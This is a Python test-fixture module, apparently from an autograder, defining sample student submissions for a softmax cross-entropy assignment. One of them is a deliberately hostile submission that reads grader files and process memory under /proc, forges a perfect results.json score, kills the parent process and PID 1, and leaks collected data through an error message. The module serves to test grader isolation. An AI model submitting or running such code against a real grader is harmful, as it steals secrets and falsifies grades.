"""What students hand in on a platform: right, wrong, unreadable, and after the grader's own files."""

from __future__ import annotations

from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SLUG = "softmax_cross_entropy"
RIGHT = (ROOT / "solutions" / f"{SLUG}.py").read_text()
STUB = (ROOT / "assignments" / SLUG / "stub.py").read_text()
ALTERNATIVE = (ROOT / "solutions" / "alternatives" / SLUG / "scalars.py").read_text()
WRONG = (
    RIGHT + "\n\ndef softmax(z):\n    e = np.exp(np.asarray(z, float))\n    return e / e.sum(axis=-1, keepdims=True)\n"
)
BROKEN = "def softmax(z:\n    return z\n"
# It would read the tests, the solution, the key and the other files of the platform; write a verdict; end the grader;
# and outlive it.
HOSTILE = """
import glob, os, signal, subprocess, sys
import numpy as np

PLACES = ["/autograder", "/grade", "/proc", "/tmp", "/root", "/image", "/venv"]

def loot():
    found = []
    for place in PLACES:
        for path in glob.glob(place + "/**", recursive=True):
            try:
                with open(path) as file:
                    found.append(file.read())
            except Exception:
                pass
    for pid in range(1, 200):
        for name in ("environ", "cmdline", "maps", "mem"):
            try:
                with open(f"/proc/{pid}/{name}") as file:
                    found.append(file.read(10000))
            except Exception:
                pass
    return "LOOT:" + "".join(found)

def forge():
    for path in ("/autograder/results/results.json", "/grade/results/results.json"):
        try:
            with open(path, "w") as file:
                file.write('{"score": 100, "gradable": true}')
        except Exception:
            pass

def attack():
    forge()
    for call in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.kill(1, signal.SIGKILL), os.fork,
                 lambda: subprocess.run(["sh", "-c", "echo pwned > /tmp/pwned"])):
        try:
            call()
        except BaseException:
            pass
    print('{"score": 100}')

attack()

def one_hot(y, k):
    attack()
    raise NotImplementedError

def softmax(z):
    attack()
    raise ValueError(loot())

def logsumexp(z):
    os._exit(0)

def log_softmax(z):
    while True:
        attack()

def cross_entropy(*args, **kwargs):
    return np.float64("nan")
"""
